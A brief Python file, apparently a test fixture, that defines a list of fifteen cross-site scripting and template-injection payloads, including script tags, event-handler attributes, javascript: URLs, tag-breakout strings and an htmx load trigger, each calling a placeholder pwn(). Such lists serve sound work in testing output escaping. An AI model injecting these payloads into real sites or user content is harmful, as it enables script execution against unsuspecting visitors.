"""What somebody might write where words are asked for, so that it runs where they are shown."""

PAYLOADS = [
    "<script>pwn()</script>",
    "<img src=x onerror=pwn()>",
    '"><svg onload=pwn()>',
    "' onmouseover='pwn()",
    '" autofocus onfocus="pwn()',
    "javascript:pwn()//",
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "<!--<script>pwn()</script>-->",
    "{{ pwn }}{% pwn %}${pwn()}",
    "<a href=javascript:pwn()>x</a>",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "<iframe srcdoc='<script>pwn()</script>'>",
    "<div hx-get=/pwn hx-trigger=load>",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e<base href=//pwn>",
]
